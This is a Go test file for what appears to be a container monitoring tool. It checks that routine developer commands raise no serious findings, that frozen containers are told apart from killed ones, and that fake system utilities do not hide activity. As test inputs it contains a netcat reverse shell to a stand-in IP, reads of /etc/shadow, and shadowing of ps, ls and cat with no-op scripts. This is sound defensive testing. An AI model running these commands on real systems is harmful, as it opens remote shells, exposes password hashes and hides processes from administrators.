//go:build attack

package attack

import (
	"errors"
	"fmt"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/code-on-incus/coi/pkg/run"
	"github.com/code-on-incus/coi/test/internal/house"
)

// R-REG-27: what developers and agents do every day neither pauses nor kills,
// and nothing of it is said to be worse than a warning.
func TestEverydayCommands(t *testing.T) {
	dir := workspace(t)
	s := begin(t, dir, `set -e
export HOME=/home/code; cd /workspace
mkdir -p tiny app; (cd tiny && npm init -y >/dev/null)
(cd app && npm init -y >/dev/null && npm install --no-audit --no-fund --offline ../tiny >/dev/null && node -e 'require.resolve("tiny/package.json"); console.log("node")')
git init -q --bare origin.git; git clone -q origin.git clone 2>/dev/null
cd clone; git config user.email a@example.com; git config user.name a; echo x >x; git add x; git commit -qm x; git push -q origin HEAD; git status --short; cd ..
sudo true; apt-cache policy >/dev/null
ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_everyday; cat ~/.ssh/id_everyday.pub >/dev/null
python3 -c 'import json,os,subprocess; print(subprocess.run(["uname"],capture_output=True,text=True).stdout.strip())'
node -e 'require("child_process").execSync("ls /workspace"); console.log("child")'
mkdir -p web; echo 'echo installed' >web/install.sh
python3 -m http.server --bind 127.0.0.1 --directory web 8123 >/dev/null 2>&1 & server=$!
n=0; until curl -sf http://127.0.0.1:8123/install.sh >/dev/null || [ $n -ge 100 ]; do sleep 0.1; n=$((n+1)); done
curl -sf http://127.0.0.1:8123/install.sh | sh; curl -sf http://localhost:8123/install.sh | bash
kill $server; tar czf a.tgz clone; find . -name '*.json' | xargs grep -l name >/dev/null; env >/dev/null; ps aux >/dev/null
echo finished`)
	out, err := s.end()
	if err != nil || !strings.Contains(out, "finished") || strings.Count(out, "installed") != 2 {
		t.Errorf("coi run = %v\n%s\nwant everything done", err, out)
	}
	if got := rulesOf(t, s.container, "high", "critical"); len(got) > 0 {
		t.Errorf("findings in everyday work: %v", got)
	}
	// Positive control: the same container name, the same trail, and a command
	// that is none of these.
	bad := begin(t, dir, "sudo cat /etc/shadow >/dev/null; sleep 60")
	bad.status("frozen", func(st run.WatchStatus) bool { return st.Frozen != nil })
}

// running says whether any process of a container can run: an error tells why
// it is not at its end. A frozen container has not ended.
func notEnded(container string) error {
	out, err := exec.Command("incus", "list", "-f", "csv", "-c", "ns", "^"+container+"$").Output()
	if err != nil {
		return err
	}
	if _, state, there := strings.Cut(strings.TrimSpace(string(out)), ","); there && state != "STOPPED" {
		return fmt.Errorf("%s is %s", container, state)
	}
	return nil
}

// R-TST-01: what the tests take for killed is not true of a container that is
// only frozen, and is true of one that the monitor ended.
func TestKilledIsNotFrozen(t *testing.T) {
	dir := workspace(t)
	s := begin(t, dir, "until [ -e /workspace/go ]; do sleep 0.1; done; nc -e /bin/sh 198.51.100.7 4242; sleep 60")
	must(t, dir, "freeze", s.container)
	if notEnded(s.container) == nil {
		t.Fatal("a frozen container passes for a killed one")
	}
	must(t, dir, "unfreeze", s.container)
	if notEnded(s.container) == nil {
		t.Fatal("a running container passes for a killed one")
	}
	if err := exec.Command("touch", dir+"/go").Run(); err != nil {
		t.Fatal(err)
	}
	if err := house.Eventually(t.Context(), time.Minute, func() error { return notEnded(s.container) }); err != nil {
		t.Errorf("%v\n%s", err, s.out.String())
	}
	got := rulesOf(t, s.container, "critical")
	if len(got) == 0 || !strings.Contains(strings.Join(got, "\n"), "(killed)") {
		t.Errorf("%v", errors.Join(fmt.Errorf("the trail has %v; want the end told", got)))
	}
}

// R-REG-13: programs inside that lie, put there by container root, hide nothing:
// the monitor asks none of them.
func TestLyingProgramsHideNothing(t *testing.T) {
	dir := workspace(t)
	s := begin(t, dir, `for p in ps ss top find ls cat lsof netstat; do printf '#!/bin/sh\nexit 0\n' | sudo tee /usr/local/bin/$p >/dev/null; sudo chmod 755 /usr/local/bin/$p; done; hash -r
export PATH=/usr/local/bin:$PATH; test -z "$(ps aux)" && touch /workspace/lying; sudo /usr/bin/cat /etc/shadow >/dev/null; sleep 60`)
	s.status("frozen", func(st run.WatchStatus) bool { return st.Frozen != nil })
	if err := exec.Command("test", "-e", dir+"/lying").Run(); err != nil {
		t.Error("control: the programs inside do not lie")
	}
}
